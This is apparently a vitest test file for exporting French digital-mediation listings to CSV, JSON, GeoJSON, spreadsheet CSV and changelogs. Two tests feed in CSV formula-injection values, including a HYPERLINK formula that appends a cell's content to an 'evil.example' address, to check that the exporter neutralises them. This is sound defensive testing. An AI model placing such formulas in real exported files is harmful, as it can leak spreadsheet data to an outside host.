import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { FIELD_NAMES } from '../../src/lib/domain/standard/fields';
import type { SessionUser } from '../../src/lib/server/auth/session';
import type { Database } from '../../src/lib/server/db';
import { exportsLog, listings, type Listing } from '../../src/lib/server/db/schema';
import { changelog, changelogCsv } from '../../src/lib/server/io/changelog';
import * as exporter from '../../src/lib/server/io/export';
import { seedIfEmpty } from '../../src/lib/server/io/seed';
import { sourceChanges, sourceChangesCsv } from '../../src/lib/server/io/sources';
import { writeChange } from '../../src/lib/server/listings/commit';
import { createCoordinator } from '../../src/lib/server/users';
import { testDatabase, type TestDatabase } from '../helpers/db';
import { checkCsv, checkJson, loadSchema } from '../helpers/table-schema';

const TODAY = '2025-06-01';
const v102 = loadSchema('1.0.2');
const v101 = loadSchema('1.0.1');

let handle: TestDatabase;
let db: Database;
let coordinator: SessionUser;
beforeAll(async () => {
	handle = await testDatabase();
	db = handle.db;
	await seedIfEmpty(db);
	coordinator = await createCoordinator(db, {
		username: 'camille',
		displayName: 'Camille',
		password: 'un mot de passe solide'
	});
});
afterAll(() => handle?.dispose());

const exportOf = (format: exporter.ExportFormat, territoire?: string) =>
	exporter.exportListings(db, {
		format,
		territory: exporter.parseTerritory(territoire),
		today: TODAY
	});

async function listingById(id: string): Promise<Listing> {
	const [row] = await db.select().from(listings).where(eq(listings.id, id));
	return row;
}

/** A change published the way a coordinator's review publishes it. */
async function commit(id: string, values: Record<string, string | null>) {
	return db.transaction(async (tx) => {
		const [row] = await tx.select().from(listings).where(eq(listings.id, id)).for('update');
		return writeChange(tx, row, { kind: 'commit', values, authorId: coordinator.id });
	});
}

describe('the standard CSV', () => {
	test('has the 32 columns in schema order, comma-separated, UTF-8 without BOM, and passes both schemas', async () => {
		const file = await exportOf('csv');

		expect(file.filename).toBe('2025-06-01_cartoparty_lieux-de-mediation-numerique_tous-territoires.csv');
		expect(file.contentType).toBe('text/csv; charset=utf-8');
		expect(file.body.startsWith(`${FIELD_NAMES.join(',')}\r\n`)).toBe(true);
		expect(file.body.charCodeAt(0)).not.toBe(0xfeff);
		expect(file.count).toBe(54);
		expect(checkCsv(file.body, v102)).toEqual([]);
		expect(checkCsv(file.body, v101)).toEqual([]);
	});

	test('quotes only cells that need it and writes multiple values joined by |', async () => {
		const listing = await listingById('271');
		const line = (await exportOf('csv')).body.split('\r\n').find((l) => l.startsWith('271,'));

		expect(listing.services.length).toBeGreaterThan(1);
		expect(line).toContain(`,${listing.services.join('|')},`);
		expect(line).toContain(',00000000000000,');
	});

	test('a territory keeps its listings only and names the file after it', async () => {
		const clermont = await exportOf('csv', 'commune:63113');
		const metropole = await exportOf('csv', 'epci:246300701');
		const allier = await exportOf('csv', 'departement:03');

		expect(clermont.filename).toBe('2025-06-01_cartoparty_lieux-de-mediation-numerique_Clermont-Ferrand.csv');
		// 24 sample rows name a commune of the metropole; « Pont du château » comes with the
		// postcode of another commune, gets no INSEE code, and is placed by that postcode.
		expect([clermont.count, metropole.count, (await exportOf('csv', 'departement:63')).count]).toEqual([
			11, 23, 54
		]);
		expect(allier.body).toBe(`${FIELD_NAMES.join(',')}\r\n`);
		expect(() => exporter.parseTerritory('region:84')).toThrow(
			'Territoire inconnu : « region:84 ». Écrivez commune:<code INSEE>, epci:<SIREN> ou departement:<code>, par exemple commune:63113 ou departement:63.'
		);
	});

	test('the producer SIRET goes in the file name when given, and must look like one', async () => {
		const file = await exporter.exportListings(db, { format: 'json', producer: '43493312300029', today: TODAY });

		expect(file.filename).toBe('2025-06-01_43493312300029_lieux-de-mediation-numerique_tous-territoires.json');
		await expect(exporter.exportListings(db, { format: 'csv', producer: '12 34' })).rejects.toThrow(
			'Producteur « 12 34 » : indiquez le SIRET (14 chiffres) ou le numéro RNA (W et 9 caractères) de la structure qui publie.'
		);
	});
});

describe('JSON and GeoJSON', () => {
	test('JSON is an array of flat objects like the national twin, and passes the schema', async () => {
		const items = JSON.parse((await exportOf('json')).body) as Record<string, unknown>[];
		const listing = items.find((item) => item.id === '271')!;

		expect(items).toHaveLength(54);
		expect(checkJson(items, v102)).toEqual([]);
		expect(typeof listing.latitude).toBe('number');
		expect(Object.values(listing).every((v) => v !== '' && v !== null)).toBe(true);
		expect(listing.code_insee).toBe('63113');
	});

	test('GeoJSON features are Points at [longitude, latitude] carrying the JSON object', async () => {
		const json = JSON.parse((await exportOf('json')).body) as Record<string, number>[];
		const geojson = JSON.parse((await exportOf('geojson')).body);

		expect(geojson.type).toBe('FeatureCollection');
		expect(geojson.features).toHaveLength(54);
		const [feature] = geojson.features;
		expect(feature.properties).toEqual(json[0]);
		expect(feature.geometry).toEqual({
			type: 'Point',
			coordinates: [json[0].longitude, json[0].latitude]
		});
	});
});

describe('the spreadsheet CSV', () => {
	test('has a BOM and semicolons, neutralises formulas and keeps numbers as they are', async () => {
		await db
			.update(listings)
			.set({ nom: '=HYPERLINK("http://exemple.org","Cliquez")', longitude: -1.5536, complement_adresse: '@SUM(A1)' })
			.where(eq(listings.id, '271'));
		const file = await exportOf('tableur');
		const line = file.body.split('\r\n').find((l) => l.startsWith('271;'))!;

		expect(file.filename).toBe('2025-06-01_cartoparty_lieux-de-mediation-numerique_tous-territoires_tableur.csv');
		expect(file.body.startsWith(`\uFEFF${FIELD_NAMES.join(';')}\r\n`)).toBe(true);
		expect(line).toContain(';"\'=HYPERLINK(""http://exemple.org"",""Cliquez"")";');
		expect(line).toContain(";'@SUM(A1);");
		expect(line).toContain(';-1.5536;');
		expect(line).toMatch(/;\+33\d{9};/);
	});
});

describe('the changelog', () => {
	test('with no past export, every listing is new', async () => {
		const log = await changelog(db, exporter.parseTerritory('commune:63113'));

		expect(log.since).toBeNull();
		expect([log.added.length, log.changed.length, log.removed.length]).toEqual([11, 0, 0]);
	});

	test('lists what was added, changed (with its fields) and removed since the last export', async () => {
		const clermont = exporter.parseTerritory('commune:63113');
		const first = await exportOf('csv', 'commune:63113');
		expect(await exporter.recordExport(db, first, 'csv', clermont, coordinator.id)).toBe(true);
		// The same content again is not a new export.
		expect(await exporter.recordExport(db, first, 'json', clermont, null)).toBe(false);

		// A real name with an unbalanced quote, as published: « … - "Croix de Neyrat ».
		const changed = await listingById('374');
		await commit(changed.id, { telephone: '+33473999999', horaires: 'Mo-Fr 09:00-12:00' });
		const removed = await listingById('271');
		await db.delete(listings).where(eq(listings.uid, removed.uid));
		await db.insert(listings).values({
			id: 'nouveau-1',
			nom: 'Fablab de la Tour',
			commune: 'Clermont-Ferrand',
			code_postal: '63000',
			code_insee: '63113',
			adresse: '1 rue Neuve',
			date_maj: TODAY
		});

		const log = await changelog(db, clermont);
		expect(log.since?.rowCount).toBe(11);
		expect(log.added.map((e) => e.id)).toEqual(['nouveau-1']);
		expect(log.changed.map((e) => [e.id, e.fields])).toEqual([
			['374', ['telephone', 'horaires', 'date_maj']]
		]);
		expect(log.removed).toEqual([{ uid: removed.uid, id: null, nom: null, commune: null }]);
		expect(changelogCsv(log).split('\r\n').slice(0, 3)).toEqual([
			'\uFEFFchangement;id;nom;commune;champs_modifies',
			'ajoutée;nouveau-1;Fablab de la Tour;Clermont-Ferrand;',
			'modifiée;374;"Médiathèque Clermont Ferrand - ""Croix de Neyrat";Clermont-Ferrand;"Téléphone, Horaires d\'ouverture, Date de mise à jour"'
		]);
		expect(await db.select().from(exportsLog)).toHaveLength(1);
	});
});

describe('approved changes for the sources', () => {
	test('one file per source with each field from its imported value to the approved one', async () => {
		const listing = await listingById('293');
		const imported = listing.nom;
		await commit('293', { nom: 'Médiathèque Hugo-Pratt' });
		await commit('293', { nom: 'Médiathèque Hugo Pratt', prise_rdv: 'https://rdv.exemple.org/' });

		const bySource = await sourceChanges(db, null);
		expect([...bySource.keys()]).toEqual(['Hinaura']);
		const hinaura = bySource.get('Hinaura')!.filter((c) => c.id === '293');
		expect(hinaura.map((c) => [c.field, c.imported, c.approved])).toEqual([
			['nom', imported, 'Médiathèque Hugo Pratt'],
			['prise_rdv', null, 'https://rdv.exemple.org/']
		]);
		const csv = sourceChangesCsv(hinaura).split('\r\n');
		expect(csv[0]).toBe('id,nom,commune,champ,libelle,valeur_importee,valeur_validee,date_validation');
		expect(csv[1]).toMatch(
			new RegExp(`^293,Médiathèque Hugo Pratt,${listing.commune},nom,Nom du lieu,${imported},Médiathèque Hugo Pratt,\\d{4}-\\d{2}-\\d{2}$`)
		);
	});

	test('cells a spreadsheet would run as a formula are neutralised, as in the spreadsheet export', async () => {
		const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
		await commit('300', { nom: formula, complement_adresse: '@SUM(A1)', telephone: '+33473123456' });

		const changes = (await sourceChanges(db, null)).get('Hinaura')!.filter((c) => c.id === '300');
		const lines = sourceChangesCsv(changes).split('\r\n');
		const line = (field: string) => lines.find((l) => l.startsWith('300,') && l.includes(`,${field},`));

		expect(lines.some((l) => l.includes(',=HYPERLINK') || l.includes(',"=HYPERLINK'))).toBe(false);
		expect(line('nom')).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",`);
		expect(line('complement_adresse')).toContain(",'@SUM(A1),");
		// A telephone in the standard's form is a plain number: left as it is.
		expect(line('telephone')).toContain(',+33473123456,');
	});

	test('a field brought back to its imported value drops out', async () => {
		const before = await listingById('299');
		await commit('299', { telephone: '+33473123456' });
		await commit('299', { telephone: before.telephone });

		const changes = (await sourceChanges(db, null)).get('Hinaura') ?? [];
		expect(changes.filter((c) => c.id === '299')).toEqual([]);
	});
});

describe('the independent schema check', () => {
	test('refuses what the schema refuses, so that its silence on exports means something', () => {
		const header = FIELD_NAMES.join(',');
		const good = (values: Record<string, string>) =>
			FIELD_NAMES.map((name) => values[name] ?? '').join(',');
		const base = {
			id: 'a',
			pivot: '43493312300029',
			nom: 'N',
			commune: 'C',
			code_postal: '63000',
			adresse: 'A',
			date_maj: '2025-01-01'
		};

		expect(checkCsv(`${header}\r\n${good(base)}\r\n`, v102)).toEqual([]);
		expect(checkCsv(`\uFEFF${header}\r\n`, v102)).toEqual([
			{ row: 0, field: '', message: 'starts with a byte order mark' }
		]);
		expect(checkCsv(`${header.replace('id,pivot', 'pivot,id')}\r\n`, v102)[0].message).toMatch(/^header/);
		const problems = checkCsv(
			`${header}\r\n${good({ ...base, frais_a_charge: 'xx|Gratuit', date_maj: '2025-02-30', latitude: 'nord', presentation_resume: 'é'.repeat(281), nom: '' })}\r\n${good(base)}\r\n`,
			v102
		);
		expect(problems.map((p) => `${p.row} ${p.field} ${p.message}`)).toEqual([
			'1 nom required: empty',
			'1 latitude type number: "nord" is not a number',
			'1 presentation_resume maxLength 280: 281 characters',
			'1 date_maj type date: "2025-02-30" is not YYYY-MM-DD',
			'1 frais_a_charge pattern: "xx|Gratuit" does not match',
			'2 id unique: same as row 1'
		]);
		expect(checkJson([{ nom: 'N', id: 'a', latitude: '45.1' }], v102).map((p) => p.message)).toEqual([
			'keys out of schema order',
			'a number is expected',
			'required: empty',
			'required: empty',
			'required: empty',
			'required: empty',
			'required: empty'
		]);
	});

	test('the one known disagreement: v1.0.2 spells « Étapes numériques(La Poste) » without its space', async () => {
		await db
			.update(listings)
			.set({ formations_labels: ['Étapes numériques (La Poste)'] })
			.where(eq(listings.id, '300'));
		const problems = checkCsv((await exportOf('csv')).body, v102);

		expect(problems.map((p) => [p.field, p.message])).toEqual([
			['formations_labels', 'pattern: "Étapes numériques (La Poste)" does not match']
		]);
	});
});
